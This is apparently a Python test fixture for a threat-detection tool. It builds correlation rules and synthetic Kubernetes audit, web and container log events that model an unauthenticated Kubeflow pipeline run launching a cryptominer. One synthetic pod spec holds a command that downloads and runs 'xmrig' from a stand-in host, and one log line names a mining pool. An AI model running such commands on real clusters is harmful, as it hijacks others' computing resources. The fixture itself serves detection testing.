"""A made-up chain of firings like the Kubeflow one, and rules around it, without any engine."""

from __future__ import annotations

from typing import Any

from streamer.detect.evidence import evidence_of
from streamer.ecs import DocumentContext
from streamer.errors import Place
from streamer.model import (
    AUDIT,
    CONTAINER_LOG,
    CONTAINER_SPEC,
    WEBSERVER,
    Alert,
    Event,
    Firing,
    LogSource,
    Match,
    Position,
    Step,
)
from streamer.sigma.rules import (
    MINUTE_US,
    And,
    CorrelationRule,
    CountCondition,
    DetectionRule,
    Not,
    Ref,
    RuleMeta,
    RuleSet,
    Suppress,
)

T0 = 1_795_428_131_120_000  # 2026-11-23T10:02:11.120Z
RUN_ID = "3f2c0a9e-0000-4000-8000-000000000001"
CONTEXT = DocumentContext(instance="test", version="0.0.0", created_us=T0 + 3_600_000_000)


def meta(key: str, **changes: Any) -> RuleMeta:
    values: dict[str, Any] = {
        "key": key,
        "id": f"00000000-0000-4000-8000-{abs(hash_of(key)):012d}",
        "name": key,
        "title": key.replace("_", " ").capitalize(),
        "level": "high",
        "status": "experimental",
        "description": f"About {key}.",
        "author": "streamer",
        "references": ("https://attack.example/1",),
        "tags": ("attack.impact", "attack.t1496.001", "attack.defense_evasion"),
        "falsepositives": ("A pipeline that mines on purpose",),
        "license": "",
        "version": "2026-11-01",
        "place": Place(f"/anywhere/rules/kubernetes/kubeflow/{key}.yml", 1, 1),
        "meaning": f"{abs(hash_of(key)):064x}",
    }
    return RuleMeta(**(values | changes))


def hash_of(text: str) -> int:
    return sum(ord(char) * (index + 1) for index, char in enumerate(text))


def detection(key: str, **changes: Any) -> DetectionRule:
    return DetectionRule(meta(key, **changes), LogSource(), predicate=None)  # type: ignore[arg-type]


def correlation(key: str, rules: tuple[str, ...], group_by: tuple[str, ...], **changes: Any) -> CorrelationRule:
    condition = changes.pop("condition", And(tuple(Ref(rule) for rule in rules)))
    title = changes.pop("meta", {})
    values: dict[str, Any] = {
        "meta": meta(key, **title),
        "type": "temporal_ordered",
        "rules": rules,
        "group_by": group_by,
        "fields_of": {rule: {name: name for name in group_by} for rule in rules},
        "timespan_us": 10 * MINUTE_US,
        "condition": condition,
        "decides": "arrival",
        "suppress": Suppress(10 * MINUTE_US),
        "link_exact": True,
    }
    return CorrelationRule(**(values | changes))


RULES = RuleSet(
    detections=(
        detection("visit"),
        detection("workflow"),
        detection("pod"),
        detection("image"),
        detection("miner_output"),
        detection("proxy_speaks", title="An authenticating proxy speaks"),
    ),
    correlations=(
        correlation("run", ("visit", "workflow"), ("run_id",)),
        correlation(
            "new_image",
            ("image",),
            ("namespace",),
            type="value_count",
            first_seen=True,
            condition=CountCondition("gte", 1, ("container.repository",)),
            fields_of={"image": {"namespace": "objectRef.namespace", "container.repository": "container.repository"}},
        ),
        correlation("run_pod", ("run", "pod"), ("workflow_uid",), rank=2),
        correlation(
            "mined",
            ("run_pod", "new_image", "miner_output"),
            ("pod_uid",),
            rank=3,
            condition=And((Ref("run_pod"), Ref("new_image"), Ref("miner_output"), Not(Ref("proxy_speaks")))),
            meta={"title": "Pipeline run by a visitor without login started a miner", "level": "critical"},
        ),
    ),
)

ISTIO = {
    "kubernetes": {
        "namespace": "istio-system",
        "pod": {"name": "istio-ingressgateway-1"},
        "container": {"name": "istio-proxy"},
    }
}
PIPELINE = "system:serviceaccount:kubeflow:ml-pipeline"
ARGO = "system:serviceaccount:kubeflow:argo"


def event(source: LogSource, at_ms: int, fields: dict[str, Any], line: int, file: str = "audit.ndjson") -> Event:
    return Event(source, T0 + at_ms * 1_000, line.to_bytes(16, "big"), "prod-1", fields, Position(file, 0, line, True))


def audit(verb: str, resource: str, user: str, **fields: Any) -> dict[str, Any]:
    return {
        "verb": verb,
        "user": {"username": user, "groups": ["system:authenticated"]},
        "actor": {"name": user, "kind": "service_account" if user.startswith("system:serviceaccount:") else "user"},
        "objectRef": {"resource": resource, "namespace": "kubeflow", "apiVersion": "v1"},
        "requestURI": f"/api/v1/namespaces/kubeflow/{resource}",
        "responseStatus": {"code": 201},
        "outcome": "success",
        "source": {"ip": "10.0.0.5"},
        "sourceIPs": ["10.0.0.5"],
        "auditID": f"a-{verb}-{resource}",
        **fields,
    }


def match(rule: str, happened: Event, **values: Any) -> Match:
    return Match(
        rule,
        happened.identity,
        happened.time_us,
        happened.cluster,
        {name: (value,) for name, value in values.items()},
        happened.position,
        0,
        evidence_of(happened),
    )


def firing(rule: str, key: dict[str, str], *members: Match) -> Firing:
    times = [member.time_us for member in members]
    steps: dict[str, list[Match]] = {}
    for member in members:
        steps.setdefault(member.rule, []).append(member)
    return Firing(
        rule=rule,
        key_names=("cluster", *key),
        key=('"prod-1"', *(f'"{value}"' for value in key.values())),
        time_us=max(times),
        decided="arrival",
        decided_us=max(times),
        marks=(),
        steps=tuple(Step(name, tuple(found), len(found)) for name, found in steps.items()),
        window_us=(min(times), max(times)),
    )


def as_match(fired: Firing) -> Match:
    return Match(fired.rule, b"f" * 16, fired.time_us, "prod-1", {}, firing=fired)


def get(path: str, at_ms: int, line: int, method: str = "GET") -> Event:
    return event(
        WEBSERVER,
        at_ms,
        {
            **ISTIO,
            "c-ip": "203.0.113.7",
            "cs-method": method,
            "cs-uri-stem": path,
            "sc-status": 200,
            "cs-user-agent": "Mozilla/5.0",
        },
        line,
        "containers.ndjson",
    )


def workflow_made() -> Event:
    """The API server of Kubeflow Pipelines creates the run's Workflow."""
    return event(
        AUDIT,
        29_814,
        audit("create", "workflows", PIPELINE, workload={"kind": "Workflow", "name": "sequential-pipeline-x7k2p"}),
        1312,
    )


def pod_made() -> tuple[Event, Event]:
    """Argo creates the run's pod: the request, and the container in it."""
    pod_fields = audit(
        "create",
        "pods",
        ARGO,
        workload={
            "kind": "Pod",
            "name": "sequential-pipeline-x7k2p-1483",
            "images": ["tensorflow/tensorflow:latest"],
            "privileged": True,
            "command_lines": ["sh -c wget https://files.example/xmrig && ./xmrig --token=s3cr3t"],
        },
    )
    container = event(
        CONTAINER_SPEC,
        31_890,
        pod_fields
        | {
            "container": {
                "name": "main",
                "image": "tensorflow/tensorflow:latest",
                "repository": "tensorflow/tensorflow",
                "privileged": True,
                "command_line": "sh -c wget https://files.example/xmrig && ./xmrig --token=s3cr3t",
            }
        },
        1321,
    )
    return event(AUDIT, 31_890, pod_fields, 1320), container


def miner_speaks() -> Event:
    """The container prints what a miner prints."""
    return event(
        CONTAINER_LOG,
        52_322,
        {
            "message": "net  new job from pool.example:3333 diff 100001 algo rx/0",
            "kubernetes": {
                "namespace": "kubeflow",
                "pod": {"name": "sequential-pipeline-x7k2p-1483", "uid": "51be"},
                "container": {"name": "main", "image": "tensorflow/tensorflow:latest"},
                "node": {"name": "node-1"},
            },
        },
        3,
        "containers.ndjson",
    )


def chain() -> Firing:
    """Gateway, workflow, pod with a new privileged image, miner output: three levels of correlation."""
    pod, container = pod_made()
    run = firing(
        "run",
        {"run_id": RUN_ID},
        match("visit", get("/pipeline/", 0, 1)),
        match("visit", get("/pipeline/apis/v1beta1/runs", 29_751, 2, "POST")),
        match("workflow", workflow_made()),
    )
    run_pod = firing("run_pod", {"workflow_uid": "8d0e"}, as_match(run), match("pod", pod))
    image = match("image", container, **{"container.repository": "tensorflow/tensorflow"})
    new_image = firing("new_image", {"namespace": "kubeflow"}, image)
    return firing(
        "mined", {"pod_uid": "51be"}, as_match(run_pod), as_match(new_image), match("miner_output", miner_speaks())
    )


def chain_alert() -> Alert:
    return Alert("0123456789abcdef0123456789abcdef", chain(), links_exact=4, links_by_time=0)
